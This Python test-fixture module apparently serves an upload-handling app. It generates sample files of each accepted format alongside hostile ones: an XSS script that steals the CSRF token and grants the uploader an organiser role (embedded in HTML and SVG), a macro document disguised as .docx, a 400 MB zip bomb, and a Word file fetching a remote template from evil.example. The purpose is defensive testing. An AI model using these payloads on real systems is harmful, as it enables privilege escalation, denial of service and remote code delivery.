"""Real files of every format minping accepts, and the hostile ones a probe uploaded."""

from __future__ import annotations

import io
import zipfile

import docx
import openpyxl
from PIL import Image


def hostile_script(grantee: int = 0, marker: str = "ran") -> bytes:
    """What the probe's files did in the organiser's browser: read the CSRF token and grant the
    uploader (user ``grantee``) the organiser role; here they also set the title and fetch a
    marker address, so that a test sees whether anything ran at all."""
    return (
        "<script>document.title='PWNED';"
        f"fetch('/__{marker}__/');"
        "var t=(document.cookie.match(/csrftoken=([^;]+)/)||[])[1];"
        f"fetch('/console/users/{grantee}/',{{method:'POST',credentials:'include',"
        "headers:{'Content-Type':'application/x-www-form-urlencoded'},"
        "body:'csrfmiddlewaretoken='+t+'&role=organiser&unit=&source_code='});"
        "</script>"
    ).encode()


def html_report(script: bytes) -> bytes:
    """The probe's 自查报告: a web page."""
    return (
        "<!doctype html><html><head><meta charset=utf-8><title>自查报告</title></head>"
        "<body><h1>自查报告</h1>".encode()
        + script
        + b"</body></html>"
    )


def svg(script: bytes) -> bytes:
    """The probe's deduction attachment: a drawing that runs script when opened."""
    code = script.replace(b"<script>", b"<script><![CDATA[").replace(b"</script>", b"]]></script>")
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        + code
        + b"</svg>"
    )


HTML_REPORT = html_report(hostile_script())
SVG = svg(hostile_script())


def image(fmt: str = "PNG", size: tuple[int, int] = (40, 30), mode: str = "RGB") -> bytes:
    """A small picture in ``fmt`` (JPEG, PNG, WEBP), with a camera's EXIF where it takes one."""
    picture = Image.new(mode, size, (200, 30, 30) if mode == "RGB" else 128)
    exif = Image.Exif()
    exif[0x010F] = "Camera maker"  # Make
    exif[0x0131] = "minping-test"  # Software
    out = io.BytesIO()
    picture.save(out, format=fmt, exif=exif.tobytes())
    return out.getvalue()


def pdf() -> bytes:
    """A one-page PDF with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def docx_file(text: str = "自查报告正文") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx_file() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(["单位", "得分"])
    workbook.active.append(["公安局", 90])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def repack(data: bytes, replace: dict[str, bytes], add: dict[str, bytes] | None = None) -> bytes:
    """An office file with some members replaced or added, as a hostile tool would write it."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def docm_renamed() -> bytes:
    """A macro-enabled Word document (.docm) saved under a .docx name."""
    original = docx_file()
    with zipfile.ZipFile(io.BytesIO(original)) as source:
        types = source.read("[Content_Types].xml")
    macro = types.replace(
        b"openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"ms-word.document.macroEnabled.main+xml",
    ).replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    return repack(
        original, {"[Content_Types].xml": macro}, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
    )


def zip_bomb() -> bytes:
    """An .xlsx of 300 KB whose sheet unpacks to 400 MB of nothing."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx_file())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target,
    ):
        for info in source.infolist():
            target.writestr(info.filename, source.read(info))
        with target.open("xl/worksheets/sheet2.xml", "w", force_zip64=True) as member:
            block = b" " * (1 << 20)
            for _ in range(400):
                member.write(block)
    return out.getvalue()


def remote_template() -> bytes:
    """A Word document that fetches its template from another server when opened."""
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return repack(docx_file(), {}, {"word/_rels/settings.xml.rels": rels})
